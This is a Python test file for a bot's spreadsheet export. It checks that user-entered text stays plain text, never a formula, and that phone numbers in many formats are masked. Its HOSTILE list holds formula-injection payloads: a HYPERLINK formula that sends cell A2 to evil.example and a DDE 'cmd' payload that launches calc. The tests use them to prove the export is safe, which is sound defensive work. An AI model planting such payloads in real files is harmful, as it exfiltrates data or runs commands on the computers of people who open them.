"""/export is safe to open: user-provided cells are text, never formulas, and phone numbers are masked in every
form people write them (spaces, dashes, full-width digits, +86, inside a sentence)."""

from __future__ import annotations

import re
from datetime import datetime

import pytest
from sqlalchemy import select, update

from bot.logging_setup import mask_phones
from bot.runtime import Runtime
from storage.models import CourseRow, User
from storage.models_schedule import SurveyResponse
from storage.models_service import ServiceRecord
from storage.unit_of_work import unit_of_work
from tests.client import UserClient
from tests.conftest import ADMIN_ID
from tests.test_staff_export import workbook_of
from tests.test_staff_stats import SH, seed

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"王")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
PHONES = [
    "138 0013 8000",
    "１３８００１３８０００",
    "联系138-0013-8000",
    "+86 139-1234-5678",
    "＋８６１３７００１３７０００",
]
# What must never appear once separators are dropped and digits made ASCII.
PHONE_DIGITS = ["13800138000", "13912345678", "13700137000"]


def _digits_only(text: str) -> str:
    ascii_text = text.translate(str.maketrans("０１２３４５６７８９", "0123456789"))
    return re.sub(r"[^0-9*]", "", ascii_text)


@pytest.fixture
def admin(dp, bot) -> UserClient:
    return UserClient(dp, bot, user_id=ADMIN_ID, first_name="管理员")


@pytest.fixture
async def odd_data(runtime: Runtime) -> list[str]:
    """First names, a course title, survey comments and a ledger answer holding formulas and phone numbers."""
    await seed(runtime)
    planted: list[str] = []
    async with unit_of_work(runtime.sessionmaker) as session:
        await session.execute(update(ServiceRecord).values(created_at=datetime(2026, 11, 20, 15, 0, tzinfo=SH)))
        users = list(await session.scalars(select(User).order_by(User.id)))
        for user, name in zip(users, HOSTILE + PHONES, strict=False):
            user.display_name = name
            planted.append(name)
        course = await session.scalar(select(CourseRow).order_by(CourseRow.id).limit(1))
        course.title = HOSTILE[0]
        for survey, comment in zip(await session.scalars(select(SurveyResponse)), HOSTILE[1:] + PHONES, strict=False):
            survey.comment = comment
        record = await session.scalar(select(ServiceRecord).limit(1))
        record.detail = {"last_occupation": "联系138-0013-8000"}
    return planted


async def test_export_cells_are_text_and_phones_are_masked(admin: UserClient, odd_data: list[str]) -> None:
    _, book = workbook_of(await admin.send("/export 2026-11-01 2026-11-23"))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for hostile in HOSTILE:  # kept as typed, as text (XML reads a lone CR back as LF)
        assert hostile.replace("\r", "\n") in texts
    everything = "\n".join(_digits_only(t) for t in texts)
    for digits in PHONE_DIGITS:
        assert digits not in everything
    assert "138****8000" in "\n".join(texts)  # masked, not dropped


@pytest.mark.parametrize("written", [*PHONES, "+8613800138000", "008613800138000", "13800138000"])
def test_every_way_of_writing_a_phone_is_masked(written: str) -> None:
    assert not any(digits in _digits_only(mask_phones(written)) for digits in PHONE_DIGITS)


@pytest.mark.parametrize("text", ["2026-11-23 09:00", "320700199001011234", "12345678901", "订单 138001380001 号"])
def test_other_numbers_are_left_alone(text: str) -> None:
    assert mask_phones(text) == text
